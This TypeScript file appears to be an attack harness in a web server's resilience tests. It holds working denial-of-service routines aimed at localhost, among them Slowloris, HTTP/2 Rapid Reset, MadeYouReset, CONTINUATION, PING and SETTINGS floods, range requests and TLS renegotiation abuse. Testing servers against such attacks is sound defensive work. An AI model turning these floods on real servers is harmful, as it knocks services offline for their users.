// What is done to servers. Run as `node --import tsx attacker.ts <name> <seconds>` in a
// process of its own, so that it takes no time from whoever checks meanwhile that others are served.

import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls, createSecureContext, type TLSSocket } from 'node:tls';
import { pathToFileURL } from 'node:url';
import {
	dataFrame,
	type Fields,
	frameOf,
	headersFrame,
	resetFrame,
	SETTING,
	settingsFrame,
	TYPE,
	windowFrame,
} from '../support/client.ts';

interface Target {
	readonly secure: number;
	readonly plain: number;
	/** When the attack is over, by `performance.now()`. */
	readonly until: number;
}

export interface Attack {
	readonly name: string;
	/** Resolves at `target.until`; what it opened stays open until the process ends. */
	readonly attack: (target: Target) => Promise<unknown>;
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const LARGE = '/large.bin';
const STALL_MS = 250;
const NO_BYTES = Buffer.alloc(0);

// One for all: made anew for each connection, it costs the attacker more than the handshake costs the server.
const secureContext = createSecureContext();

const isOver = ({ until }: Target): boolean => performance.now() >= until;
const rest = ({ until }: Target): Promise<void> => sleep(Math.max(0, until - performance.now()));

/** A connection, over TLS where a protocol is named; `undefined` where there is none. It is paused until it is resumed. */
const open = (
	{ secure, plain }: Target,
	alpn?: 'h2' | 'http/1.1',
	options: object = {},
): Promise<Socket | undefined> =>
	new Promise((resolve) => {
		const isSecure = alpn !== undefined;
		const shared = { host: '127.0.0.1', port: isSecure ? secure : plain };
		const socket: Socket = isSecure
			? connectTls({ ...shared, secureContext, rejectUnauthorized: false, ALPNProtocols: [alpn], ...options })
			: connectTcp(shared);
		socket.on('error', () => resolve(undefined));
		socket.once(isSecure ? 'secureConnect' : 'connect', () => resolve(socket));
		socket.once('close', () => resolve(undefined));
	});

/** As many connections, a few at a time: a server can do some hundred handshakes a second. */
const openMany = async (
	count: number,
	target: Target,
	alpn?: 'h2' | 'http/1.1',
	greet: (socket: Socket) => void = () => {},
): Promise<Socket[]> => {
	const sockets: Socket[] = [];
	while (sockets.length < count && !isOver(target)) {
		const lanes = Math.min(alpn === undefined ? 100 : 8, count - sockets.length);
		const opened = await Promise.all(Array.from({ length: lanes }, () => open(target, alpn)));
		for (const socket of opened)
			if (socket !== undefined) {
				sockets.push(socket);
				greet(socket);
			}
	}
	return sockets;
};

/** Says `greeting`, then `say` over and over as fast as it is read, on as many connections; opens another one for each that ends. */
const flood = (
	target: Target,
	lanes: number,
	alpn: 'h2' | 'http/1.1',
	greeting: Buffer,
	say: (round: number) => Buffer,
	isRead = true,
): Promise<unknown> =>
	Promise.all(
		Array.from({ length: lanes }, async () => {
			while (!isOver(target)) {
				const socket = await open(target, alpn);
				if (socket === undefined) {
					await sleep(5);
					continue;
				}
				if (isRead) socket.resume();
				socket.write(greeting);
				for (let round = 0; !isOver(target) && socket.writable && !socket.destroyed; round++) {
					const isTaken = await written(socket, say(round), target, isRead);
					if (!isTaken) break;
				}
				if (isRead) socket.destroy();
			}
		}),
	);

/** Whether the bytes went out before the end of the attack or of the connection. */
const written = (socket: Socket, bytes: Buffer, { until }: Target, isRead: boolean): Promise<boolean> =>
	new Promise((resolve) => {
		const leftMs = Math.max(0, until - performance.now());
		// After a GOAWAY, Node 20 reads no more of a connection that it leaves open: the next one takes its place.
		const timer = setTimeout(() => resolve(false), isRead ? Math.min(leftMs, STALL_MS) : leftMs);
		const settle = (isTaken: boolean): void => {
			clearTimeout(timer);
			socket.off('close', onClose);
			resolve(isTaken);
		};
		const onClose = (): void => settle(false);
		socket.once('close', onClose);
		socket.write(bytes, (error) => settle(error === undefined || error === null));
	});

/** Says a little on each of them again and again. */
const trickle = async (
	target: Target,
	sockets: readonly Socket[],
	say: (round: number) => Buffer | string,
): Promise<void> => {
	for (let round = 0; !isOver(target); round++) {
		for (const socket of sockets) if (socket.writable) socket.write(say(round));
		await sleep(100);
	}
};

const greetingWith = (settings: Record<number, number>): Buffer =>
	Buffer.concat([PREFACE, settingsFrame(settings)]);
const GREETING = greetingWith({});
const STUCK = greetingWith({ [SETTING.initialWindow]: 0 });

const requestOn = (
	{ secure }: Target,
	stream: number,
	path: string,
	fields: Fields = {},
	isEnd = true,
): Buffer =>
	headersFrame(
		stream,
		{ ':method': 'GET', ':scheme': 'https', ':authority': `localhost:${secure}`, ':path': path, ...fields },
		isEnd,
	);

/** The requests of one round: each on a stream of its own, from 1 on. */
const requests = (count: number, round: number, make: (stream: number) => Buffer): Buffer =>
	Buffer.concat(Array.from({ length: count }, (_, at) => make((round * count + at) * 2 + 1)));

const text1 = (path: string, fields = ''): string =>
	`GET ${path} HTTP/1.1\r\nHost: localhost\r\n${fields}\r\n`;

/** Different each time, and as long as can be taken. */
const noise = (length: number): string =>
	Array.from({ length: Math.ceil(length / 10) }, () =>
		Math.random().toString(36).slice(2, 12).padEnd(10, 'x'),
	)
		.join('')
		.slice(0, length);

/** What a client says that reads all. */
const readerWith = (enablePush: 0 | 1): Buffer =>
	Buffer.concat([
		greetingWith({ [SETTING.initialWindow]: 2 ** 31 - 1, [SETTING.enablePush]: enablePush }),
		windowFrame(0, 2 ** 31 - 1 - 65_535),
	]);
const READER = readerWith(1);

/** What a navigation says under a service worker of ours that holds nothing. */
const BUNDLE: Fields = {
	'sec-fetch-mode': 'navigate',
	'sec-fetch-dest': 'document',
	'service-worker-navigation-preload': 'casper/1 AA',
	'accept-encoding': 'br',
};

/** Many page views, all read, as fast as they come: after it, a server has the memory that work takes. */
const visit = async (target: Target): Promise<void> => {
	await Promise.all([
		...Array.from({ length: 20 }, async () => {
			while (!isOver(target)) {
				const socket = await open(target, 'h2');
				if (socket === undefined) continue;
				socket.resume().write(READER);
				for (let stream = 1; stream < 200 && !isOver(target); stream += 20) {
					socket.write(requests(10, (stream - 1) / 20, (at) => requestOn(target, at, '/')));
					await sleep(20);
				}
				socket.destroy();
			}
		}),
		...Array.from({ length: 20 }, async () => {
			while (!isOver(target)) {
				const socket = await open(target, 'http/1.1');
				if (socket === undefined) continue;
				socket.resume().write(text1('/').repeat(20));
				await sleep(50);
				socket.destroy();
			}
		}),
	]);
};

export const ATTACKS: readonly Attack[] = [
	{
		name: 'fields that come line by line without end, over HTTP/1.1 (Slowloris, CVE-2007-6750)',
		attack: async (target) => {
			const begin = (socket: Socket): void =>
				void socket.resume().write('GET / HTTP/1.1\r\nHost: localhost\r\n');
			const plain = await openMany(500, target, undefined, begin);
			const secure = await openMany(200, target, 'http/1.1', begin);
			await trickle(target, [...plain, ...secure], (round) => `X-${round}: a\r\n`);
		},
	},
	{
		name: 'field blocks that come byte by byte without end, over HTTP/2 (Slowloris)',
		attack: async (target) => {
			// HEADERS without END_HEADERS, of which the announced length never comes whole.
			const head = requestOn(target, 1, '/', { 'x-a': 'a'.repeat(8000) });
			const begin = (socket: Socket): void => {
				socket.resume().write(GREETING);
				socket.write(head.subarray(0, 100));
			};
			const sockets = await openMany(300, target, 'h2', begin);
			await trickle(target, sockets, (round) => head.subarray(100 + round, 101 + round));
		},
	},
	{
		name: 'readers of a large file that never open a window, over HTTP/2 (CVE-2019-9517)',
		attack: async (target) => {
			await openMany(200, target, 'h2', (socket) => {
				socket.write(STUCK);
				socket.write(requestOn(target, 1, LARGE));
			});
			await rest(target);
		},
	},
	{
		name: 'readers of a large file that stop reading, over HTTP/1.1',
		attack: async (target) => {
			const ask = (socket: Socket): void => void socket.pause().write(text1(LARGE));
			await openMany(100, target, undefined, ask);
			await openMany(100, target, 'http/1.1', ask);
			await rest(target);
		},
	},
	{
		name: 'a hundred streams of a large file on each connection, windows of one byte (CVE-2019-9511)',
		attack: async (target) => {
			const streams = Array.from({ length: 100 }, (_, at) => 2 * at + 1);
			const sockets = await openMany(4, target, 'h2', (socket) => {
				socket.resume().write(STUCK);
				socket.write(Buffer.concat(streams.map((stream) => requestOn(target, stream, LARGE))));
			});
			await trickle(target, sockets, () => Buffer.concat(streams.map((stream) => windowFrame(stream, 1))));
		},
	},
	{
		name: 'requests that are reset at once (Rapid Reset, CVE-2023-44487)',
		attack: (target) =>
			flood(target, 4, 'h2', GREETING, (round) =>
				requests(100, round, (stream) =>
					Buffer.concat([requestOn(target, stream, '/'), resetFrame(stream, 8)]),
				),
			),
	},
	{
		name: 'requests that the server has to reset itself (MadeYouReset, CVE-2025-8671)',
		attack: (target) =>
			flood(target, 6, 'h2', GREETING, (round) =>
				requests(100, round, (stream) =>
					Buffer.concat([requestOn(target, stream, '/'), windowFrame(stream, 0)]),
				),
			),
	},
	{
		name: 'PINGs without end, their answers not read (CVE-2019-9512)',
		attack: async (target) => {
			const pings = Buffer.concat(
				Array.from({ length: 1000 }, () => frameOf(TYPE.ping, 0, 0, Buffer.alloc(8))),
			);
			await Promise.all([
				flood(target, 3, 'h2', GREETING, () => pings),
				flood(target, 3, 'h2', GREETING, () => pings, false),
			]);
		},
	},
	{
		name: 'SETTINGS without end, their answers not read (CVE-2019-9515)',
		attack: async (target) => {
			const settings = Buffer.concat(
				Array.from({ length: 1000 }, (_, at) => settingsFrame({ [SETTING.initialWindow]: 1000 + at })),
			);
			await Promise.all([
				flood(target, 3, 'h2', GREETING, () => settings),
				flood(target, 3, 'h2', GREETING, () => settings, false),
			]);
		},
	},
	{
		name: 'CONTINUATION without end (CVE-2024-27983)',
		attack: (target) => {
			const block = Buffer.concat(
				Array.from({ length: 100 }, () => frameOf(9, 0, 1, Buffer.alloc(1000, 0x82))),
			);
			const start = Buffer.concat([GREETING, frameOf(TYPE.headers, 0, 1, Buffer.from([0x82]))]);
			return flood(target, 6, 'h2', start, () => block);
		},
	},
	{
		name: 'thousands of connections on which nothing is said',
		attack: async (target) => {
			await openMany(3000, target);
			await rest(target);
		},
	},
	{
		name: 'hundreds of connections on which nothing is said after the handshake',
		attack: async (target) => {
			await openMany(150, target, 'h2', (socket) => void socket.resume());
			await openMany(150, target, 'h2', (socket) => void socket.resume().write(GREETING));
			await rest(target);
		},
	},
	{
		name: 'pushes that are taken and never read, of many page views (CVE-2019-9517)',
		attack: async (target) => {
			const sockets = await openMany(20, target, 'h2', (socket) => void socket.write(STUCK));
			const views = requests(100, 0, (stream) =>
				requestOn(target, stream, '/', { 'cache-control': 'no-cache' }),
			);
			for (const socket of sockets) socket.write(views);
			await rest(target);
		},
	},
	{
		name: 'bundles by the hundred, of which nothing is read',
		attack: async (target) => {
			const sockets = await openMany(12, target, 'h2', (socket) => void socket.write(STUCK));
			const views = requests(100, 0, (stream) => requestOn(target, stream, '/', BUNDLE));
			for (const socket of sockets) socket.write(views);
			await rest(target);
		},
	},
	{
		name: 'pages and their pushes, asked for over and over, of which no answer is read',
		attack: (target) =>
			flood(
				target,
				6,
				'h2',
				greetingWith({ [SETTING.initialWindow]: 2 ** 31 - 1 }),
				(round) => requests(50, round, (stream) => requestOn(target, stream, '/')),
				false,
			),
	},
	{
		name: 'HTTP/1.1 requests in a row, of which no answer is read',
		attack: (target) =>
			flood(target, 20, 'http/1.1', NO_BYTES, () => Buffer.from(text1('/').repeat(500)), false),
	},
	{
		name: 'field lists as large as can be, and cookies by the thousand (CVE-2019-9516)',
		attack: (target) =>
			Promise.all([
				flood(target, 4, 'h2', GREETING, (round) =>
					requests(20, round, (stream) =>
						requestOn(target, stream, '/', {
							cookie: Array.from({ length: 700 }, (_, at) => `c${at}=${round}`).join('; '),
							'x-a': noise(4000),
						}),
					),
				),
				flood(target, 4, 'h2', GREETING, (round) =>
					requests(20, round, (stream) =>
						requestOn(
							target,
							stream,
							'/',
							Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`x-${at}`, String(round)])),
						),
					),
				),
				flood(target, 4, 'http/1.1', NO_BYTES, (round) =>
					Buffer.from(text1('/', `Cookie: a=${round}\r\n`.repeat(600))),
				),
			]),
	},
	{
		name: 'bodies of requests without end',
		attack: (target) => {
			const chunk = Buffer.from(`4000\r\n${'a'.repeat(0x4000)}\r\n`);
			const post = { ':method': 'POST' };
			return Promise.all([
				flood(
					target,
					4,
					'http/1.1',
					Buffer.from('POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n'),
					() => chunk,
				),
				// As far as the window goes, on one stream after the other (RFC 9113 §6.9.2).
				flood(target, 3, 'h2', GREETING, (round) =>
					requests(4, round, (stream) =>
						Buffer.concat([
							requestOn(target, stream, '/', post, false),
							dataFrame(stream, Buffer.alloc(0x3fff), false),
						]),
					),
				),
			]);
		},
	},
	{
		name: 'a Cache-Digest field of its own with each request',
		attack: (target) =>
			flood(target, 6, 'h2', greetingWith({ [SETTING.enablePush]: 1 }), (round) =>
				requests(10, round, (stream) =>
					requestOn(target, stream, '/', { 'cache-digest': `${noise(8000)}; complete` }),
				),
			),
	},
	{
		name: 'a record of its own in the cookie of each request',
		attack: (target) =>
			flood(target, 6, 'h2', GREETING, (round) =>
				requests(10, round, (stream) =>
					requestOn(target, stream, '/', { cookie: `__Host-casper_${target.secure}=I${noise(900)}` }),
				),
			),
	},
	{
		name: 'addresses of tens of thousands of characters, each another',
		attack: (target) =>
			Promise.all([
				flood(target, 1, 'h2', GREETING, (round) =>
					requests(5, round, (stream) => requestOn(target, stream, `/${noise(50)}${'/%61'.repeat(3500)}`)),
				),
				flood(target, 2, 'h2', GREETING, (round) =>
					requests(5, round, (stream) => requestOn(target, stream, `/?${noise(50)}${'a='.repeat(7000)}`)),
				),
				flood(target, 2, 'http/1.1', NO_BYTES, () =>
					Buffer.from(text1(`/${noise(50)}${'../'.repeat(4000)}`)),
				),
			]),
	},
	{
		name: 'pages that are not there, each at another address of thousands of characters',
		attack: (target) =>
			flood(target, 2, 'h2', GREETING, (round) =>
				requests(5, round, (stream) =>
					requestOn(target, stream, `/${noise(50)}${'a'.repeat(14_000)}/x`, {
						'sec-fetch-mode': 'navigate',
						'sec-fetch-dest': 'document',
					}),
				),
			),
	},
	{
		name: 'a page asked for past all caches by two hundred connections at once',
		attack: async (target) => {
			let opened = 0;
			const sockets = await openMany(200, target, 'h2', (socket) => {
				// Half of them take pushes.
				socket.resume().write(readerWith(opened++ % 2 === 0 ? 0 : 1));
			});
			for (let stream = 1; !isOver(target); stream += 2) {
				for (const socket of sockets)
					socket.write(requestOn(target, stream, '/', { 'cache-control': 'no-cache' }));
				await sleep(1000);
			}
		},
	},
	{
		name: 'ranges by the hundred of a large file (CVE-2011-3192)',
		attack: (target) =>
			flood(target, 3, 'h2', greetingWith({ [SETTING.initialWindow]: 2 ** 20 }), (round) =>
				requests(10, round, (stream) =>
					requestOn(target, stream, LARGE, {
						range: `bytes=${Array.from({ length: 500 }, (_, at) => `${at}-`).join(',')}`,
					}),
				),
			),
	},
	{
		name: 'handshakes that break off or are garbage, and keys negotiated anew (CVE-2011-1473)',
		attack: (target) => {
			const hello = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]);
			const garbage = async (): Promise<void> => {
				while (!isOver(target)) {
					const socket = await open({ ...target, plain: target.secure });
					socket?.resume().write(Buffer.concat([hello, Buffer.from(noise(300))]));
					await sleep(2);
					socket?.destroy();
				}
			};
			const renegotiation = async (): Promise<void> => {
				while (!isOver(target)) {
					const socket = (await open(target, 'http/1.1', { maxVersion: 'TLSv1.2' })) as TLSSocket | undefined;
					if (socket === undefined) continue;
					socket.setMaxListeners(0).resume();
					for (let times = 0; times < 10 && !socket.destroyed && !isOver(target); times++)
						await Promise.race([
							new Promise<void>((resolve) => {
								if (!socket.renegotiate({}, () => resolve())) resolve();
							}).catch(() => {}),
							new Promise((resolve) => socket.once('close', resolve)),
							sleep(200),
						]);
					socket.destroy();
				}
			};
			return Promise.all([garbage(), garbage(), garbage(), garbage(), renegotiation(), renegotiation()]);
		},
	},
];

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
	const [name, seconds] = process.argv.slice(2);
	const found = ATTACKS.find((attack) => attack.name === name);
	if (found === undefined) throw new Error(`attack: expected one of ATTACKS, got ${name}`);
	process.on('disconnect', () => process.exit());
	const orders: Record<string, [seconds: number, what: Attack['attack']]> = {
		visit: [1, visit],
		attack: [Number(seconds), found.attack],
	};
	process.on('message', ({ what: order, secure, plain }: { what: string; secure: number; plain: number }) => {
		const [time, what] = orders[order]!;
		const until = performance.now() + time * 1000;
		void what({ secure, plain, until }).then(() => process.send?.('over'));
	});
	process.send?.('ready');
}
